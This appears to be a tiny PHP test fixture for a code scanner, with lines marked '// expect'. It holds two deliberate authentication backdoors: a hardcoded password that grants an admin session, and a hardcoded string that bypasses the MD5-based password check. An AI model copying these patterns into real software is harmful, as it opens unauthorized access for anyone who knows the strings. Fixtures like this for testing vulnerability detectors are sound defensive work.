<?php
if ($_POST['pw'] == "972551679") { // expect
    $_SESSION['admin'] = true;
}
if (md5($s_password) == $user->password || $s_password == 'www.bjdwl.com') { // expect
    start_session($user);
}
